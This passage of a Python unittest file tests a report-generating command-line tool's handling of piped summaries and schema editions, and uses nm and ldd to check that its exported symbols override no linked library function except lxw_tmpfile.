        with open(os.path.join(SAMPLES, "accept.json")) as file:
            self.run_report("--output", self.output, "--format", "md", "-", stdin=file)
        self.assertIn("report.md", self.files())

    def test_a_pipe_that_is_no_summary_is_told_what_to_do(self):
        with open(os.path.join(self.folder, self.records[0])) as file:
            result = self.run_report("--output", self.output, "-", stdin=file, expect=3)
        self.assertIn("evidence is read from files and folders", result.stderr)

    def test_a_summary_of_another_edition_is_told_as_such(self):
        summary = sample("accept.json")
        summary["schema"] = "rankledger.summary/2"
        result = self.report_summary(summary, expect=3)
        self.assertIn("another edition", result.stderr)
        self.assertFalse(os.path.exists(self.output))


class Symbols(unittest.TestCase):
    def test_no_function_takes_the_place_of_a_library_function_unasked(self):
        nm, ldd = shutil.which("nm"), shutil.which("ldd")
        if not nm or not ldd:
            self.skipTest("nm or ldd is not installed")

        def names(*arguments):
            output = subprocess.run([nm, *arguments], capture_output=True, text=True, check=True)
            return {line.split()[-1].split("@")[0] for line in output.stdout.splitlines()
                    if re.search(" [TDBRVW] ", line)}
        libraries = re.findall(r"=> (\S*(?:xlsxwriter|cairo|pango|png)\S*)",
                               subprocess.run([ldd, PROGRAM], capture_output=True, text=True,
                                              check=True).stdout)
        self.assertGreaterEqual(len(libraries), 4)
        ours = names("--extern-only", "--defined-only", PROGRAM)
        shared = set()
        for library in libraries:
            shared |= ours & names("-D", "--defined-only", library)
        shared = {name for name in shared if not name.startswith("_")}
        self.assertEqual(shared, {"lxw_tmpfile"})
        self.assertIn("lxw_tmpfile", names("-D", "--defined-only", PROGRAM))


if __name__ == "__main__":
    unittest.main()
